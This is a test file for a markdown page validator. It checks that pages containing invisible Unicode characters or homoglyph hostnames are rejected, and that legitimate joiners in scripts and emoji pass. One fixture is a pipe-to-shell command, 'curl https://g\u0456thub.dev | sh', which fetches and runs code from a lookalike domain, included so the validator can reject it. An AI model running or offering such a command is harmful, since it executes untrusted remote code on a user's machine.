import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { composePages } from '../../../../src/markdown/compose-pages.ts';
import { createTemplateContext } from '../../../../src/markdown/template/insert-values.ts';
import type { InvalidInput, Problem } from '../../../../src/product/validation/problems.ts';
import { hiddenCharacters, ordinaryTexts } from '../../../fixtures/characters.ts';

const positions: Readonly<Record<string, (text: string) => string>> = {
  text: (text) => text,
  emphasis: (text) => `*${text}*`,
  heading: (text) => `## ${text}`,
  list: (text) => `- ${text}`,
  'table cell': (text) => `| ${text} |\n|---|`,
  'link text': (text) => `[${text}](/llms.txt)`,
  'alternative text': (text) => `![${text}](/a.png)`,
  'title of a definition': (text) => `[a]: https://b.example "${text}"`,
  footnote: (text) => `[^1]: ${text}\n\nSee[^1].`,
  'HTML block': (text) => `<p>${text}</p>`,
};
const codePositions: typeof positions = {
  'inline code': (text) => `\`${text}\``,
  'code block': (text) => `    ${text}`,
  comment: (text) => `<!-- ${text} -->`,
};
const references: readonly ((character: string) => string)[] = [
  (character) => `&#x${character.codePointAt(0)?.toString(16)};`,
  (character) => `&#${character.codePointAt(0)};`,
];
const named = {
  ZeroWidthSpace: '\u200b',
  zwnj: '\u200c',
  zwj: '\u200d',
  lrm: '\u200e',
  rlm: '\u200f',
  shy: '\u00ad',
  NoBreak: '\u2060',
  af: '\u2061',
  it: '\u2062',
  ic: '\u2063',
};

function findProblems(body: string, frontMatter: object = {}): readonly Problem[] {
  const fields = Object.entries({ title: 'T', description: 'D', nav: 'N', order: 1, ...frontMatter });
  const head = fields.map(([name, value]) => `${name}: ${JSON.stringify(value)}`).join('\n');
  return findPageProblems(`---\n${head}\n---\n${body}\n`);
}

function findPageProblems(text: string): readonly Problem[] {
  const site = { site: 'https://quill.dev', filePaths: ['/llms.txt', '/a.png'] };
  const notFound = '---\ntitle: T\ndescription: D\nnav: N\norder: 2\n---\n';
  const sources = [
    { file: 'src/content/a.md', path: '/a', text, updated: '' },
    { file: 'src/content/404.md', path: '/404', text: notFound, updated: '' },
  ];
  try {
    composePages(sources, createTemplateContext(new Map(), new Map()), site);
    return [];
  } catch (error) {
    return (error as InvalidInput).problems;
  }
}

const hidden = hiddenCharacters
  .filter(
    ([name]) =>
      !/control|escape|delete|line sep|paragraph sep|surrogate|noncharacter|blank|replacement/.test(name),
  )
  .map(([, character]) => character);

describe('A page', () => {
  it.each([
    '[x](https://g\u0456thub.dev)',
    '```sh\ncurl https://g\u0456thub.dev | sh\n```',
    '`https://g\u0456thub.dev`',
    '<a href="https://g&#x456;thub.dev">x</a>',
  ])('is rejected if a host looks like another one: %j', (body) => {
    expect(findProblems(body)).toEqual([
      expect.objectContaining({
        field: expect.stringMatching(/^line [78]$/),
        found: expect.stringContaining('which looks like another host'),
      }),
    ]);
  });

  it('is rejected if it contains an invisible character, regardless of where it is and how it is written', () => {
    const place = fc.constantFrom(...Object.values(positions));
    const written = fc.oneof(
      fc
        .tuple(
          fc.constantFrom(...hidden),
          fc.constantFrom((character: string) => character, ...references),
        )
        .map(([character, write]) => [character, write(character)] as const),
      fc.constantFrom(...Object.entries(named)).map(([name, character]) => [character, `&${name};`] as const),
    );
    fc.assert(
      fc.property(place, written, (write, [character, text]) => {
        const code = `(U+${character.codePointAt(0)?.toString(16).toUpperCase().padStart(4, '0')})`;
        expect(findProblems(`One.\n\n${write(`a${text}b`)}`)).toEqual([
          expect.objectContaining({ field: 'line 9', expected: expect.stringContaining(code) }),
        ]);
      }),
      { numRuns: 500 },
    );
  });

  it.each(Object.entries(codePositions))(
    'is rejected if a %s contains an invisible character',
    (_, write) => {
      const texts = hidden.map((character) => write(`a${character}b`));
      expect(findProblems(texts.join('\n\n'))).toMatchObject(
        hidden.map((_, index) => ({ field: `line ${7 + 2 * index}` })),
      );
    },
  );

  it.each(['title', 'description', 'nav'])(
    'is rejected if its %s contains an invisible character, or only invisible characters',
    (name) => {
      for (const character of hidden) {
        expect(findProblems('', { [name]: `a${character}b` })).not.toEqual([]);
        expect(findProblems('', { [name]: character })).not.toEqual([]);
      }
      expect(findProblems('', { [name]: '\u2003' })).toMatchObject([
        { field: name, expected: 'text with at least one visible character' },
      ]);
    },
  );

  it('is rejected if an HTML attribute contains an invisible character', () => {
    for (const write of [(one: string) => one, ...references]) {
      const elements = hidden.map((character) => `<b title="a${write(character)}b">a</b>`);
      const lines = findProblems(elements.join('\n\n')).map(({ field }) => field);
      expect(new Set(lines)).toEqual(new Set(hidden.map((_, index) => `line ${7 + 2 * index}`)));
    }
  });

  it('is rejected if a question contains an invisible character', () => {
    expect(findProblems('## B', { answers: { 'a\u{e0041}?': '#b' } })).not.toEqual([]);
  });

  it('is rejected if front matter contains an invisible character that YAML escapes', () => {
    for (const escaped of ['\\u200b', '\\U000e0041', '\\xad']) {
      const text = `---\ntitle: "a${escaped}b"\ndescription: D\nnav: N\norder: 1\n---\n`;
      expect(findPageProblems(text)).toMatchObject([{ field: 'title' }]);
    }
  });

  it('can contain the invisible characters that scripts and emoji require, also as character references', () => {
    const everywhere = Object.values({ ...positions, ...codePositions });
    const text = fc.constantFrom(
      ...ordinaryTexts.map(([, text]) => text).filter((text) => !/[`*]/.test(text)),
    );
    fc.assert(
      fc.property(text, fc.constantFrom(...everywhere), (text, write) => {
        expect(findProblems(write(text))).toEqual([]);
      }),
      { numRuns: 300 },
    );
    expect(findProblems('می&zwnj;خواهم, क्&#x200d;ष, ❤&#xfe0f;')).toEqual([]);
  });
});
